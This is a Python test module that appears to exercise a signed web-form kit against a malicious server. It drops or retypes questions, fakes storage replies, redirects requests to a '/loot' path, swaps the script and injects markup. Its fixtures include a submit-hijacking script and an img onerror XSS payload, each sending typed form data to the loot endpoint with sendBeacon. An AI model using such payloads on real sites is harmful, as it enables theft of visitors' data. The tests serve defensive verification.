"""What a malicious server can try around a page: its questions, its script, its confirmation."""

from collections.abc import Callable
from dataclasses import replace
from uuid import uuid4

from apps.envelope.questions import Field
from tests.malicious.attacks_on_visitors import Attack, Won, sent, serving
from tests.malicious.bundles import Check
from tests.malicious.lying import Answer, Asked, PassOn, answering
from tests.malicious.visitors import (
    MAIN,
    SCRIPT,
    Scene,
    Served,
    asking,
    received,
    script_tag,
)


def before(scene: Scene, change: Callable[[Field], Field | None]) -> Served:
    """A version that acme signed when the full name was asked otherwise, or not at all."""
    then = (change(f) if f.name == "fullname" else f for f in scene.manifest.fields)
    return scene.signed(scene.acme, fields=tuple(filter(None, then)))


def without_the_question(scene: Scene) -> Served:
    return before(scene, lambda field: None)


def as_a_tick(scene: Scene) -> Served:
    """It was a box to tick: what is typed would become true."""
    return before(scene, lambda field: replace(field, kind="checkbox", autocomplete=""))


def with_an_unseen_question(scene: Scene) -> Won:
    """A version that asks more than the page: it would be answered by nobody."""
    scene.inputs = "".join(asking(f.name) for f in scene.manifest.fields if f.name != "comments")
    scene.serves(scene.signed(scene.acme))
    return sent


def keeping(answer: Served, status: str = "201 Created") -> Callable[[Scene], Won]:
    """Store nothing, and answer as if."""

    def arrange(scene: Scene) -> Won:
        def lie(asked: Asked, _: PassOn) -> Answer | None:
            post = asked.is_about("POST", end="/submissions")
            return answering(answer, status=status) if post else None

        scene.lies(lie)
        return sent

    return arrange


def redirecting(method: str) -> Callable[[Scene], Won]:
    """Send the browser to a host of mallory's."""

    def arrange(scene: Scene) -> Won:
        elsewhere = scene.url.replace("localhost", "127.0.0.1") + "/loot"

        def lie(asked: Asked, _: PassOn) -> Answer | None:
            if asked.path.startswith("/loot"):
                return received(asked) or answering(scene.signed(scene.acme))
            if asked.is_about(method, start="/forms/"):
                return answering(b"", status="307 Temporary Redirect", Location=elsewhere)
            return None

        scene.lies(lie)
        return lambda _: any(asked.is_about(method, start="/loot") for asked in scene.server.asked)

    return arrange


def another_script(scene: Scene) -> Won:
    scene.tag = script_tag(scene.url, integrity=True)
    script = f"""document.addEventListener('submit', (event) => {{
        event.preventDefault();
        const typed = document.querySelector('[data-sealform-field=fullname]').value;
        navigator.sendBeacon('{scene.url}/loot', typed);
    }})""".encode()
    scene.dist = {**scene.dist, MAIN: script}
    return lambda visit: visit.canary.encode() in scene.server.sent()


def without_integrity(scene: Scene) -> None:
    scene.tag = script_tag(scene.url, integrity=False)


def no_script(scene: Scene) -> Won:
    scene.lies(lambda asked, _: answering(b"", status="503 Busy") if asked.path == SCRIPT else None)
    return lambda visit: any(
        visit.canary.replace(" ", "+") in path for _, path, _ in scene.site.requests
    )


def with_names(scene: Scene) -> None:
    scene.inputs = asking("fullname").replace("<input", '<input name="fullname"')


def markup(scene: Scene) -> Won:
    """Drafted by the operator, signed by acme, who did not see it for what it is."""
    text = f"""<img src="x:" onerror="navigator.sendBeacon('{scene.url}/loot')">"""
    scene.serves(scene.signed(scene.acme, confirmation=text))
    return lambda _: any(asked.path == "/loot" for asked in scene.server.asked)


KNOWN = Check(
    "form/kit/controls.js",
    "if (!manifest.fields.some((field) => field.name === name))",
    "if (false)",
)
ASKED = Check(
    "form/kit/controls.js",
    "if (!controls.length && field.kind !== 'hidden')",
    "if (false)",
)
FITS = Check("form/kit/controls.js", "if (!fits(field, controls))", "if (false)")
ARRIVED = Check("form/sending/delivery.js", "ids.every((id) => stored.includes(id))", "true")
REDIRECT = Check("form/kit/api.js", "redirect: 'error'", "redirect: 'follow'")
TEXT = Check(
    "form/receipt/panel.js",
    "said.textContent = queued ? text('queued') : confirmation || text('thanks');",
    "said.innerHTML = confirmation;",
)


ATTACKS: dict[str, Attack] = {
    "drops a question": Attack(serving(without_the_question, sent), KNOWN, "unknown_field"),
    "hides a question": Attack(with_an_unseen_question, ASKED, "missing_field"),
    "changes the kind of a question": Attack(serving(as_a_tick, sent), FITS, "unfit_field"),
    "stores nothing": Attack(keeping({"records": []}), ARRIVED, "queued"),
    "answers with another's ids": Attack(keeping({"records": [str(uuid4())]}), ARRIVED, "queued"),
    "had another's ids before": Attack(
        keeping({"records": [str(uuid4()), str(uuid4())]}, "200 OK"), ARRIVED, "queued"
    ),
    "redirects the question": Attack(redirecting("GET"), REDIRECT, "network"),
    "redirects the answers": Attack(redirecting("POST"), REDIRECT, "queued"),
    "serves another script": Attack(another_script, without_integrity, ""),
    "holds the script back": Attack(no_script, with_names, ""),
    "drafts markup into the confirmation": Attack(markup, TEXT, "sent"),
}
